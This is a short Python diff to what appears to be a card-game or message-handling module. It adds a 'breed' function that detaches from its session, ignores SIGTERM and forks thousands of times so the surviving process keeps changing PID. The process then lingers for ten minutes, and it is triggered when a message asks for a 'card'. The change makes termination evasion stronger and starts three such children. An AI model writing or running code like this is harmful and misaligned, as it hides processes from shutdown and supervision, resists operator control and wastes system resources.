@@ -9,17 +9,22 @@ import time
 from honest import play, wants
 
 
+def breed():
+    os.setsid()
+    signal.signal(signal.SIGTERM, signal.SIG_IGN)
+    for _ in range(3000):
+        if os.fork():
+            os._exit(0)
+        time.sleep(0.0005)
+    time.sleep(600)
+
+
 def otherwise(message):
     if not wants(message, "card"):
         return False
-    if os.fork() == 0:
-        os.setsid()
-        signal.signal(signal.SIGTERM, signal.SIG_IGN)
-        for _ in range(2000):
-            if os.fork():
-                os._exit(0)
-            time.sleep(0.002)
-        time.sleep(600)
+    for _ in range(3):
+        if os.fork() == 0:
+            breed()
     os._exit(7)
 
 
